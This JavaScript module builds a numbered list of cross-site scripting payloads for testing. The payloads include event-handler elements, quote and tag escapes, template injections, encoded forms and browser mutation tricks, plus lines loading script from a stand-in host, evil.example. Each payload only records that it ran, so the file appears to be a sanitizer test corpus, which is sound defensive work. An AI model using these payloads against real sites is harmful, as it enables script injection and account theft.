// Texts that become script where a page takes text for markup, made from families: how script is reached × how one gets
// out of where the text stands. Each carries its number and, when it runs, adds it to `ran`.

const IMG = "<img src=x onerror=RUN>";

/** Elements that run something by themselves. */
const ELEMENTS = [
  IMG,
  "<img src=x onerror='RUN'>",
  "<img/src=x/onerror=RUN>",
  "<img srcset=x onerror=RUN>",
  "<IMG SRC=x OnErRoR=RUN>",
  "<<img src=x onerror=RUN>>",
  "<image src=x onerror=RUN>",
  "<svg onload=RUN>",
  "<svg/onload=RUN>",
  "<svg><image href=x onerror=RUN />",
  "<svg><animate onbegin=RUN attributeName=x dur=1s>",
  "<svg><set onbegin=RUN attributeName=x to=1>",
  "<svg><script>RUN</script></svg>",
  "<video><source onerror=RUN>",
  "<video src=x onerror=RUN>",
  "<audio src=x onerror=RUN>",
  "<input type=image src=x onerror=RUN>",
  "<input autofocus onfocus=RUN>",
  "<textarea autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN>",
  "<details open ontoggle=RUN>",
  "<a autofocus tabindex=1 onfocus=RUN>x</a>",
  "<body onload=RUN>",
  "<style onload=RUN></style>",
  "<link rel=stylesheet href=x onerror=RUN>",
  "<object data=x onerror=RUN></object>",
  "<embed src=x onload=RUN>",
  "<iframe onload=RUN></iframe>",
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<object data="javascript:parent.RUN"></object>',
  '<a href="javascript:RUN">x</a>',
  '<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<button formaction="javascript:RUN">x</button>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  "<base href=//evil.example/>",
  "<script>RUN</script>",
  "<ScRiPt>RUN</sCrIpT>",
  "<script/x>RUN</script>",
  "<script>RUN",
  "<script type=module>RUN</script>",
  '<script src="data:text/javascript,RUN"></script>',
  "<scr<script>ipt>RUN</scr</script>ipt>",
  "<template shadowrootmode=open><img src=x onerror=RUN></template>",
  "<p style=animation-name:x onanimationstart=RUN>",
  "<marquee onstart=RUN>x</marquee>",
  '<div style="background:url(javascript:RUN)">',
];

/** Ways out of where a text may stand. */
const EXITS = ['">', "'>", "`>", ">", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>", "</option>", "</button>", "-->", "]]>", "*/", "</svg>"];

/** Texts for the inside of a tag, of a script, of an address or of a template. */
const INSIDES = [
  '" onfocus=RUN autofocus x="',
  "' onfocus=RUN autofocus x='",
  " onfocus=RUN autofocus ",
  '" onmouseover=RUN x="',
  '" onerror=RUN src=x x="',
  'x" style="animation-name:x" onanimationstart="RUN',
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  "javascript&colon;RUN",
  "javascript://%0aRUN",
  "data:text/html,<script>parent.RUN</script>",
  "vbscript:RUN",
  "//evil.example/x.js",
  '";RUN;//',
  "';RUN;//",
  "`;RUN;//",
  "\\';RUN;//",
  "'-RUN-'",
  '"-RUN-"',
  "`-RUN-`",
  "${RUN}",
  "]};RUN;//",
  '"}];RUN;//',
  "*/RUN/*",
  "{{RUN}}",
  "{{constructor.constructor('RUN')()}}",
  "{ $RUN }",
  "{ -RUN }",
  "#{RUN}",
  "<%= RUN %>",
  "<?php RUN ?>",
  "[[${RUN}]]",
  "@import 'javascript:RUN';",
  "expression(RUN)",
];

/** Written so that a careless second reading makes markup of them. */
const DISGUISED = [
  "&lt;img src=x onerror=RUN&gt;",
  "&#60;img src=x onerror=RUN&#62;",
  "&#x3c;img src=x onerror=RUN&#x3e;",
  "&amp;lt;img src=x onerror=RUN&amp;gt;",
  "%3Cimg%20src=x%20onerror=RUN%3E",
  "%253Cimg%2520src=x%2520onerror=RUN%253E",
  "\\u003cimg src=x onerror=RUN\\u003e",
  "\\x3cimg src=x onerror=RUN\\x3e",
  "+ADw-img src=x onerror=RUN+AD4-",
  "\uff1cimg src=x onerror=RUN\uff1e",
  "\u02c2img src=x onerror=RUN\u02c3",
  "<img\u00a0src=x\u00a0onerror=RUN>",
];

/** What browsers make something else of than it says (mutation). */
const MUTATING = [
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
  "<table><td><svg><foreignObject><img src=x onerror=RUN>",
  "<select><option><img src=x onerror=RUN></select>",
  "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
  "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">",
  "<!--><img src=x onerror=RUN>-->",
  "<!-- --!><img src=x onerror=RUN> -->",
  "<a title='<img src=x onerror=RUN>'>",
  "<p id=\"--><img src=x onerror=RUN>\">",
];

const OUT = EXITS.flatMap((exit) => [`${exit}${IMG}`, `${exit}<svg onload=RUN>`, `x${exit}<script>RUN</script>`]);

/** All of them, numbered from 0. Each fits into one line of 200 characters. */
export const PAYLOADS = [...ELEMENTS, ...OUT, ...INSIDES, ...DISGUISED, ...MUTATING].map((text, number) => text.replaceAll("RUN", `ran.push(${number})`));

/** So many to a text of at most `most` characters, until all are used. */
export function packed(most) {
  const texts = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last && last.length + payload.length + 1 <= most) {
      texts[texts.length - 1] = `${last}\n${payload}`;
    } else {
      texts.push(payload);
    }
  }
  return texts;
}
